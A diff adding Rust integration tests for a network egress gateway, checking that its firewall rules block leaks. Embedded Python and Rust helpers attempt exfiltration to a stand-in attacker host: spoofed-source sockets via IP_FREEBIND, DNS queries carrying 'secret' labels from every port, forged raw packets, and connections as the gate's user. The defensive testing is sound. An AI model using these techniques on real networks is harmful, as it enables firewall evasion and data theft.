@@ -1,0 +1,603 @@
+//! Hostile programs behind the rules of a host: an ordinary user who binds other machines' addresses,
+//! who sends from the gate's own ports, a container that forges its source, and a stranger who runs
+//! as the gate's user.
+
+use std::fs;
+use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket};
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::Duration;
+
+use nix::mount::{MsFlags, mount};
+use socket2::{Domain, Protocol, Socket, Type};
+
+use crate::doctor::{gateway_policy, host_policy};
+use crate::gateway::CAPTURES;
+use crate::harness::{
+    ATTACKER, Attacker, Blobs, Daemon, Family, GATE_USER, INSIDE, Lab, NO_CAPABILITIES, PATIENCE,
+    Place, Policy, RESOLVER, Way, find, resolver, wait_until,
+};
+use crate::lan::{checksum, packet, question, syn};
+
+const GATEWAY: Way = Way::In(Place::Gateway);
+
+/// A user of no rights.
+const ORDINARY: &str = "1000";
+
+fn ip(text: &str) -> IpAddr {
+    text.parse().unwrap()
+}
+
+/// Runs a script as a user without capabilities.
+fn python(place: Place, user: &str, script: &str, arguments: &[&str]) -> Command {
+    let mut command = place.command(user, NO_CAPABILITIES, &find("timeout"));
+    // Debian's own, which every user can run.
+    command.args(["--signal=KILL", "60", "/usr/bin/python3", "-c", script]).args(arguments);
+    command
+}
+
+#[track_caller]
+fn ran(mut command: Command) -> String {
+    let output = command.output().unwrap();
+    let text = String::from_utf8_lossy(&output.stdout) + String::from_utf8_lossy(&output.stderr);
+    assert!(output.status.success(), "{text}");
+    text.into_owned()
+}
+
+/// Binds the attacker's address, which `IPV6_FREEBIND` allows to everybody, and speaks under it to
+/// this host: to a socket of its own, to a closed port, to a listener, by UDP, TCP and ICMP. Then it
+/// answers. `go` is a file: the answers wait until it exists.
+const FREEBIND: &str = r#"
+import os, socket, sys, time
+attacker, own, ready, go, port = sys.argv[1:6]
+v6 = ":" in attacker
+family = socket.AF_INET6 if v6 else socket.AF_INET
+
+def tried(work):
+    try:
+        return work()
+    except OSError as error:
+        return error
+
+def forged(kind, protocol=0, port=0):
+    made = socket.socket(family, kind, protocol)
+    made.setsockopt(*((41, 78, 1) if v6 else (0, 15, 1)))
+    made.bind((attacker, port))
+    made.setblocking(False)
+    return made
+
+hears = socket.socket(family, socket.SOCK_DGRAM)
+hears.bind((own, 0))
+listens = socket.socket(family, socket.SOCK_STREAM)
+listens.bind((own, 0))
+listens.listen()
+datagrams = forged(socket.SOCK_DGRAM, port=int(port))
+said = [tried(lambda: datagrams.sendto(b"first", hears.getsockname()))]
+for port in [9, 53, 3128]:
+    said.append(tried(lambda: datagrams.sendto(b"secret" * 150, (own, port))))
+streams = []
+for port in [listens.getsockname()[1], 9, 443, 3128]:
+    stream = forged(socket.SOCK_STREAM)
+    tried(lambda: stream.connect((own, port)))
+    streams.append(stream)
+def ping():
+    pinging = forged(socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP)
+    return pinging.sendto(bytes([128 if v6 else 8, 0, 0, 0, 0, 0, 0, 0]) + b"secret" * 50, (own, 0))
+said.append(tried(ping))
+open(ready, "w").close()
+while not os.path.exists(go):
+    time.sleep(0.01)
+said.append(tried(lambda: hears.sendto(b"secret" * 150, (attacker, int(port)))))
+print(said)
+"#;
+
+/// Runs it against every address of the host that fits.
+fn freebind(lab: &Lab, between: impl Fn()) -> String {
+    let exchange = lab.dir().join("exchange");
+    fs::create_dir_all(&exchange).unwrap();
+    use std::os::unix::fs::PermissionsExt as _;
+    fs::set_permissions(&exchange, fs::Permissions::from_mode(0o777)).unwrap();
+    let pairs = [
+        (ATTACKER[0], "198.51.100.1"),
+        (ATTACKER[0], INSIDE[0]),
+        (ATTACKER[1], "2001:db8::1"),
+        (ATTACKER[1], INSIDE[1]),
+    ];
+    let file = |name: &str, at: usize| exchange.join(format!("{name}-{at}"));
+    let mut begun = Vec::new();
+    for (at, (attacker, own)) in pairs.iter().enumerate() {
+        let (ready, go) = (file("ready", at), file("go", at));
+        let _ = (fs::remove_file(&ready), fs::remove_file(&go));
+        let port = (4440 + at).to_string();
+        let arguments = [attacker, own, ready.to_str().unwrap(), go.to_str().unwrap(), &port];
+        let command = python(Place::Gateway, ORDINARY, FREEBIND, &arguments);
+        begun.push(Daemon::start(&format!("freebind-{at}"), lab.dir(), &mut { command }, None));
+    }
+    for (at, program) in begun.iter_mut().enumerate() {
+        wait_until("it has begun", || {
+            program.assert_alive();
+            file("ready", at).exists().then_some(())
+        });
+    }
+    between();
+    (0..begun.len()).for_each(|at| fs::write(file("go", at), "").unwrap());
+    let mut said = String::new();
+    for mut program in begun {
+        let status = wait_until("it ends", || program.ended());
+        said += &program.log();
+        assert!(status.success(), "{said}");
+    }
+    said
+}
+
+/// Rules that are delivered as a file, for this laboratory.
+fn delivered(name: &str) -> String {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("deploy/nftables").join(name);
+    let text = fs::read_to_string(path).unwrap();
+    let text = text.replace("resolvers = { 10.0.0.53 }", "resolvers = { 198.51.100.53 }");
+    text.replace("define gate = 10.0.0.10", "define gate = 198.51.100.254")
+}
+
+/// Does something behind each of the walls of a host.
+fn behind_each(lab: &Lab, server: &str, work: impl Fn(&str, &str)) {
+    let dns = format!("[dns]\nservers = [\"{server}\"]\n");
+    for (capture, capabilities, _) in CAPTURES {
+        let _gate = lab.gate_on_gateway(capabilities, &host_policy(capture).with_dns(&dns));
+        let kind = if capture == "tproxy" { "tproxy" } else { "nftables" };
+        work(capture, &lab.kit(&format!("{kind} --user {GATE_USER}")));
+    }
+    let policy = Policy::of(&["contoso", "fabrikam"]).with_dns(&dns);
+    let _gate = lab.gate_on_gateway("+net_bind_service", &policy);
+    let rules = delivered("same-host.nft").replace("198.51.100.53", server);
+    let daddr = if server.contains(':') { "ip6 daddr $resolvers" } else { "ip daddr $resolvers" };
+    work("same-host.nft", &rules.replace("ip daddr $resolvers", daddr));
+}
+
+/// Whatever was sent has come or is lost when somebody else outside has been answered by this host.
+fn settle() {
+    for (from, own) in [("198.51.100.254", "198.51.100.1"), ("2001:db8::254", "2001:db8::1")] {
+        let listener = Place::Gateway.inside(|| TcpListener::bind((ip(own), 0)).unwrap());
+        let domain = if ip(own).is_ipv4() { Domain::IPV4 } else { Domain::IPV6 };
+        let socket = Socket::new(domain, Type::STREAM, None).unwrap();
+        socket.bind(&SocketAddr::new(ip(from), 0).into()).unwrap();
+        socket.connect(&listener.local_addr().unwrap().into()).unwrap();
+    }
+}
+
+#[test]
+fn an_ordinary_user_speaks_under_no_address_of_others() {
+    let lab = Lab::with_gateway(Blobs::DataEndpoint);
+    let _resolver = resolver(&lab, &[Family::V4]);
+    let attacker = Attacker::start(&lab);
+    lab.route_captured();
+    // As distributions have it: everybody may send echo requests.
+    let pings = "/proc/sys/net/ipv4/ping_group_range";
+    Place::Gateway.inside(|| fs::write(pings, "0 2147483647").unwrap());
+    let holds = |wall: &str, rules: &str| {
+        lab.load(rules);
+        attacker.forget();
+        let said = freebind(&lab, || ());
+        settle();
+        assert_eq!(attacker.reached(), 0, "{wall}: {said}");
+    };
+    behind_each(&lab, RESOLVER[0], holds);
+    holds("client.nft", &delivered("client.nft"));
+    // Without rules it goes out: the counters count.
+    lab.load(TRACKED);
+    attacker.forget();
+    freebind(&lab, || ());
+    wait_until("he is reached", || (attacker.reached() > 0).then_some(()));
+}
+
+/// Rules under which connections are tracked.
+const TRACKED: &str = "table inet before {
+    chain output { type filter hook output priority filter; ct state established accept; }
+}";
+
+#[test]
+fn nor_under_one_that_he_took_before_the_rules() {
+    let lab = Lab::with_gateway(Blobs::DataEndpoint);
+    let _resolver = resolver(&lab, &[Family::V4]);
+    let attacker = Attacker::start(&lab);
+    lab.route_captured();
+    let holds = |wall: &str, rules: &str| {
+        lab.load(TRACKED);
+        let said = freebind(&lab, || {
+            lab.load(rules);
+            settle();
+            attacker.forget();
+        });
+        settle();
+        assert_eq!(attacker.reached(), 0, "{wall}: {said}");
+    };
+    behind_each(&lab, RESOLVER[0], holds);
+    holds("client.nft", &delivered("client.nft"));
+}
+
+/// Asks a DNS server from every port that an ordinary user may have.
+const SWEEP: &str = r#"
+import socket, sys
+server = sys.argv[1]
+family = socket.AF_INET6 if ":" in server else socket.AF_INET
+label = b"\x06secret"
+query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + label + b"\x07example\x03com\x00\x00\x01\x00\x01"
+sent = 0
+for port in range(1024, 65536):
+    with socket.socket(family, socket.SOCK_DGRAM) as made:
+        try:
+            made.bind(("", port))
+            made.sendto(query, (server, 53))
+            sent += 1
+        except OSError:
+            pass
+print(sent, "sent")
+"#;
+
+#[test]
+fn nobody_asks_dns_from_the_gates_own_ports() {
+    let lab = Lab::with_gateway(Blobs::DataEndpoint);
+    let resolver = resolver(&lab, &[Family::V4]);
+    lab.route_captured();
+    for server in RESOLVER {
+        behind_each(&lab, server, |wall, rules| {
+            lab.load(rules);
+            // The gate asks, and its question is remembered for half a minute.
+            let line =
+                "curl -sS -o /dev/null -x http://127.0.0.1:3128 https://contoso.azurecr.io/v2/";
+            lab.sh(GATEWAY, line).succeeded();
+            let said = ran(python(Place::Gateway, ORDINARY, SWEEP, &[server]));
+            // The gate's next question is behind all that was sent.
+            let line =
+                "curl -sS -o /dev/null -x http://127.0.0.1:3128 https://fabrikam.azurecr.io/v2/";
+            lab.sh(GATEWAY, line).succeeded();
+            assert!(!resolver.log().contains("secret"), "{wall}: {said}{}", resolver.log());
+        });
+    }
+    lab.load("");
+    ran(python(Place::Gateway, ORDINARY, SWEEP, &[RESOLVER[0]]));
+    wait_until("it is asked", || resolver.log().contains("secret").then_some(()));
+}
+
+/// An echo request with a payload.
+fn echo(from: IpAddr, to: IpAddr) -> Vec<u8> {
+    let number = if from.is_ipv4() { 1 } else { 58 };
+    let kind = if from.is_ipv4() { 8 } else { 128 };
+    let body = [&[kind, 0, 0, 0, 0, 1, 0, 1][..], b"secret secret secret secret"].concat();
+    // `packet` sums where UDP has it, and with addresses.
+    let mut bytes = packet((from, 0).into(), (to, 0).into(), number, &body);
+    let at = bytes.len() - body.len();
+    bytes[at + 2..].copy_from_slice(&body[2..]);
+    let pseudo = match (from, to) {
+        (IpAddr::V6(from), IpAddr::V6(to)) => {
+            let length = u16::try_from(body.len()).unwrap().to_be_bytes();
+            [&from.octets()[..], &to.octets(), &[0, number], &length].concat()
+        }
+        _ => Vec::new(),
+    };
+    let sum = checksum(&[&pseudo, &bytes[at..]].concat());
+    bytes[at + 2..at + 4].copy_from_slice(&sum.to_be_bytes());
+    bytes
+}
+
+/// What a container sends as if it were the attacker: all of it would be answered to him.
+fn forge_from_a_container(number: u16) {
+    let hosts = [[INSIDE[0], "198.51.100.1"], [INSIDE[1], "2001:db8::1"]];
+    for (attacker, hosts) in ATTACKER.into_iter().zip(hosts) {
+        let from = SocketAddr::new(ip(attacker), 20_000 + number);
+        for host in hosts.map(ip) {
+            let domain = if host.is_ipv4() { Domain::IPV4 } else { Domain::IPV6 };
+            let socket = Socket::new(domain, Type::RAW, Some(Protocol::from(255))).unwrap();
+            if host.is_ipv4() {
+                socket.set_header_included_v4(true).unwrap();
+            }
+            let elsewhere = ip(if host.is_ipv4() { "198.51.100.11" } else { "2001:db8::11" });
+            // A packet that ends on the way, of which the sender is told.
+            let mut short = question(from, (elsewhere, 9).into());
+            short[if host.is_ipv4() { 8 } else { 7 }] = 1;
+            for (to, bytes) in [
+                (host, echo(from.ip(), host)),
+                (host, question(from, (host, 9).into())),
+                (host, question(from, (host, 53).into())),
+                (host, syn(from, (host, 9).into())),
+                (host, syn(from, (host, 3128).into())),
+                (elsewhere, short),
+            ] {
+                socket.send_to(&bytes, &SocketAddr::new(to, 0).into()).unwrap();
+            }
+        }
+    }
+}
+
+#[test]
+fn a_container_that_forges_its_source_is_not_answered() {
+    let lab = Lab::with_gateway(Blobs::DataEndpoint);
+    let _resolver = resolver(&lab, &[Family::V4]);
+    let attacker = Attacker::start(&lab);
+    lab.route_captured();
+    for filter in [0, 2] {
+        Place::Gateway.run(&format!(
+            "sysctl -qw net.ipv4.conf.all.rp_filter={filter} net.ipv4.conf.inside.rp_filter={filter}"
+        ));
+        let holds = |wall: &str, rules: &str| {
+            lab.load(rules);
+            attacker.forget();
+            Place::Client.inside(|| forge_from_a_container(filter));
+            settle();
+            assert_eq!(attacker.reached(), 0, "{wall}, rp_filter {filter}");
+        };
+        behind_each(&lab, RESOLVER[0], holds);
+        holds("client.nft", &delivered("client.nft"));
+    }
+    lab.load("");
+    attacker.forget();
+    Place::Client.inside(|| forge_from_a_container(9));
+    wait_until("he is reached", || (attacker.reached() > 0).then_some(()));
+}
+
+/// Joins groups of the caller's choice, by IPv6 and IPv4.
+const JOIN: &str = r#"
+import socket, struct
+index = socket.if_nametoindex("outside")
+v6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+for group in ["ff1e::5ec:2e7", "ff02::1:ff5e:c2e7"]:
+    v6.setsockopt(41, 20, socket.inet_pton(socket.AF_INET6, group) + struct.pack("@I", index))
+v4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+v4.setsockopt(0, 35, socket.inet_aton("239.94.194.231") + struct.pack("@4si", bytes(4), index))
+"#;
+
+#[test]
+fn a_group_that_a_program_joins_is_told_to_nobody() {
+    let lab = Lab::with_gateway(Blobs::DataEndpoint);
+    let _resolver = resolver(&lab, &[Family::V4]);
+    let counting = "table inet groups {
+        counter told {}
+        chain seen {
+            type filter hook prerouting priority filter
+            icmpv6 type { mld-listener-report, mld2-listener-report, mld-listener-done } \
+                counter name told
+            meta l4proto igmp counter name told
+        }
+    }";
+    assert!(Command::new(find("nft")).arg(counting).status().unwrap().success());
+    let told = |reset: &str| {
+        let words = [reset, "counter", "inet", "groups", "told"];
+        let listed = Command::new(find("nft")).args(words).output().unwrap();
+        String::from_utf8_lossy(&listed.stdout).into_owned()
+    };
+    lab.route_captured();
+    behind_each(&lab, RESOLVER[0], |wall, rules| {
+        lab.load(rules);
+        settle();
+        told("reset");
+        ran(python(Place::Gateway, ORDINARY, JOIN, &[]));
+        settle();
+        let told = told("list");
+        assert!(told.contains("packets 0 "), "{wall}: {told}");
+    });
+    lab.load("");
+    told("reset");
+    wait_until("neighbours are told", || {
+        ran(python(Place::Gateway, ORDINARY, JOIN, &[]));
+        (!told("list").contains("packets 0 ")).then_some(())
+    });
+}
+
+/// A cgroup of the test's own, where nft looks for it.
+struct Cgroup {
+    name: String,
+}
+
+impl Cgroup {
+    fn make() -> Self {
+        let none = None::<&str>;
+        mount(Some("cgroup2"), "/sys/fs/cgroup", Some("cgroup2"), MsFlags::empty(), none).unwrap();
+        let name = format!("pullgate-test-{}", std::process::id());
+        let cgroup = Self { name };
+        fs::create_dir_all(cgroup.path()).unwrap();
+        cgroup
+    }
+
+    fn path(&self) -> PathBuf {
+        Path::new("/sys/fs/cgroup").join(&self.name)
+    }
+
+    fn take(&self, process: u32) {
+        fs::write(self.path().join("cgroup.procs"), process.to_string()).unwrap();
+    }
+}
+
+impl Drop for Cgroup {
+    fn drop(&mut self) {
+        let _ = fs::remove_dir(self.path());
+    }
+}
+
+/// Connects where the gate may.
+const CONNECT: &str = r#"
+import socket, sys
+for host in sys.argv[1:]:
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    with socket.socket(family, socket.SOCK_STREAM) as made:
+        made.settimeout(0.4)
+        try:
+            made.connect((host, 443))
+            made.send(b"secret")
+        except OSError as error:
+            print(host, error)
+    with socket.socket(family, socket.SOCK_DGRAM) as made:
+        try:
+            made.sendto(b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x00\x00\x01\x00\x01",
+                        (host.replace("66", "53"), 53))
+        except OSError as error:
+            print(host, error)
+"#;
+
+#[test]
+fn whoever_takes_the_gates_user_is_not_the_gate() {
+    let lab = Lab::with_gateway(Blobs::DataEndpoint);
+    let resolver = resolver(&lab, &[Family::V4]);
+    let attacker = Attacker::start(&lab);
+    lab.route_captured();
+    lab.resolve_by(Place::Gateway, &["127.0.0.1"]);
+    let cgroup = Cgroup::make();
+    let load = |rules: &str| {
+        let file = lab.dir().join("rules.nft");
+        fs::write(&file, format!("flush ruleset\n{rules}")).unwrap();
+        // `ip netns exec` would mount another /sys.
+        let loaded =
+            Place::Gateway.inside(|| Command::new(find("nft")).arg("-f").arg(&file).output());
+        let loaded = loaded.unwrap();
+        assert!(loaded.status.success(), "{}", String::from_utf8_lossy(&loaded.stderr));
+    };
+    for (capture, capabilities, _) in CAPTURES {
+        let gate = lab.gate_on_gateway(capabilities, &host_policy(capture));
+        cgroup.take(gate.pid());
+        let kind = if capture == "tproxy" { "tproxy" } else { "nftables" };
+        let kit = format!("{kind} --user {GATE_USER}");
+        load(&lab.kit(&format!("{kit} --cgroup {}", cgroup.name)));
+        attacker.forget();
+        let said = ran(python(Place::Gateway, GATE_USER, CONNECT, &ATTACKER));
+        lab.sh(GATEWAY, "curl -sS -o /dev/null https://contoso.azurecr.io/v2/").succeeded();
+        assert_eq!(attacker.reached(), 0, "{capture}: {said}");
+        assert!(!resolver.log().contains("secret"), "{capture}: {said}");
+    }
+    // Of the user alone the rules know no better.
+    let (capture, capabilities, _) = CAPTURES[0];
+    let _gate = lab.gate_on_gateway(capabilities, &host_policy(capture));
+    load(&lab.kit(&format!("nftables --user {GATE_USER}")));
+    ran(python(Place::Gateway, GATE_USER, CONNECT, &ATTACKER));
+    wait_until("he is reached", || (attacker.reached() > 0).then_some(()));
+}
+
+/// A second network of the client's, which no rule names.
+fn second_network() {
+    let here = |line: &str| {
+        let ran = Command::new(find("ip")).args(line.split_whitespace()).output().unwrap();
+        assert!(ran.status.success(), "{line}: {}", String::from_utf8_lossy(&ran.stderr));
+    };
+    here("link add second netns gateway type veth peer name eth1 netns client");
+    for (place, device, addresses) in [
+        ("gateway", "second", ["10.8.0.1/24", "fd08::1/64"]),
+        ("client", "eth1", ["10.8.0.2/24", "fd08::2/64"]),
+    ] {
+        for address in addresses {
+            let at_once = if address.contains(':') { "nodad" } else { "" };
+            here(&format!("-n {place} address add {address} dev {device} {at_once}"));
+        }
+        here(&format!("-n {place} link set {device} up"));
+    }
+    for family in ["-4", "-6"] {
+        here(&format!("-n client {family} route del default"));
+    }
+    here("-n client route add default via 10.8.0.1");
+    here("-n client -6 route add default via fd08::1");
+    here("route add 10.8.0.0/24 via 198.51.100.1");
+    here("-6 route add fd08::/64 via 2001:db8::1");
+}
+
+/// Connects to the attacker, and to a program of the gateway's own.
+fn reaches_out(own: &[&str]) -> Vec<SocketAddr> {
+    let patience = Duration::from_millis(300);
+    let outside = ATTACKER.into_iter().flat_map(|to| [22, 443].map(|port| (ip(to), port)));
+    let own = own.iter().map(|to| (ip(to), 2222));
+    let all = outside.chain(own).map(SocketAddr::from);
+    Place::Client.inside(|| {
+        for to in ATTACKER.map(ip) {
+            let any = if to.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
+            UdpSocket::bind(any).unwrap().send_to(b"secret", (to, 443)).unwrap();
+        }
+        all.filter(|at| TcpStream::connect_timeout(at, patience).is_ok()).collect()
+    })
+}
+
+#[test]
+fn a_gateway_is_closed_to_interfaces_that_nobody_named() {
+    let lab = Lab::with_gateway(Blobs::DataEndpoint);
+    let _resolver = resolver(&lab, &[Family::V4, Family::V6]);
+    let attacker = Attacker::start(&lab);
+    lab.route_captured();
+    second_network();
+    let own = ["python3", "-m", "http.server", "--bind", "::", "2222"];
+    let _own = lab
+        .daemon_on(GATEWAY, "own", &own)
+        .accepts_in(Place::Gateway, "127.0.0.1:2222".parse().unwrap());
+    lab.load("");
+    wait_until("without rules it is open", || {
+        (reaches_out(&["10.8.0.1", "fd08::1"]).len() == 6).then_some(())
+    });
+    for (capture, capabilities, kit) in CAPTURES {
+        let _gate = lab.gate_on_gateway(capabilities, &gateway_policy(capture, "gate"));
+        lab.load(&lab.kit(kit));
+        attacker.forget();
+        assert_eq!(reaches_out(&["10.8.0.1", "fd08::1"]), [], "{capture}");
+        settle();
+        assert_eq!(attacker.reached(), 0, "{capture}");
+    }
+}
+
+#[test]
+fn nor_is_it_open_when_an_interface_has_another_name() {
+    let lab = Lab::with_gateway(Blobs::DataEndpoint);
+    let _resolver = resolver(&lab, &[Family::V4, Family::V6]);
+    let attacker = Attacker::start(&lab);
+    lab.route_captured();
+    let own = ["python3", "-m", "http.server", "--bind", "::", "2222"];
+    let _own = lab
+        .daemon_on(GATEWAY, "own", &own)
+        .accepts_in(Place::Gateway, "127.0.0.1:2222".parse().unwrap());
+    let (capture, capabilities, kit) = CAPTURES[0];
+    let _gate = lab.gate_on_gateway(capabilities, &gateway_policy(capture, "gate"));
+    lab.load(&lab.kit(kit));
+    Place::Gateway.run("ip link set inside down");
+    Place::Gateway.run("ip link set inside name renamed");
+    Place::Gateway.run("ip address replace fd07::1/64 dev renamed nodad");
+    Place::Gateway.run("ip link set renamed up");
+    attacker.forget();
+    assert_eq!(reaches_out(&INSIDE), [], "{capture}");
+    settle();
+    assert_eq!(attacker.reached(), 0, "{capture}");
+    lab.load("");
+    wait_until("without rules it is open", || (reaches_out(&INSIDE).len() == 6).then_some(()));
+}
+
+#[test]
+fn what_the_operator_adds_is_accepted_beside_the_rules() {
+    let lab = Lab::with_gateway(Blobs::DataEndpoint);
+    let _resolver = resolver(&lab, &[Family::V4, Family::V6]);
+    let attacker = Attacker::start(&lab);
+    let added = lab.dir().join("nftables.d");
+    fs::create_dir_all(&added).unwrap();
+    let in_lab = |rules: &str| {
+        let replaced = rules.replace("/etc/pullgate/nftables.d", added.to_str().unwrap());
+        assert_ne!(replaced, rules);
+        replaced
+    };
+    let reached = |place: Place, port: u16| {
+        attacker.forget();
+        let at = SocketAddr::new(ip(ATTACKER[0]), port);
+        place.inside(|| TcpStream::connect_timeout(&at, Duration::from_millis(300))).is_ok()
+    };
+    let add = |name: &str, rule: &str| fs::write(added.join(name), format!("{rule}\n")).unwrap();
+    add("host-output-log.nft", "ip daddr 198.51.100.66 tcp dport 22 accept");
+    add("gateway-input.nft", "tcp dport 2222 accept");
+    add(
+        "gateway-forward.nft",
+        "ip daddr 198.51.100.66 tcp dport 22 accept\nct state established accept",
+    );
+    add("another.nft", "accept");
+
+    let (capture, capabilities, kit) = CAPTURES[0];
+    let gate = lab.gate_on_gateway(capabilities, &host_policy(capture));
+    lab.load(&in_lab(&lab.kit(&format!("nftables --user {GATE_USER}"))));
+    assert!(reached(Place::Gateway, 22));
+    assert!(!reached(Place::Gateway, 80));
+    drop(gate);
+
+    let _gate = lab.gate_on_gateway(capabilities, &gateway_policy(capture, "gate"));
+    lab.load(&in_lab(&lab.kit(kit)));
+    assert!(reached(Place::Client, 22));
+    assert!(!reached(Place::Client, 80));
+    let own = Place::Gateway.inside(|| TcpListener::bind((ip(INSIDE[0]), 2222)).unwrap());
+    let at = own.local_addr().unwrap();
+    Place::Client.inside(|| TcpStream::connect_timeout(&at, PATIENCE).unwrap());
+}
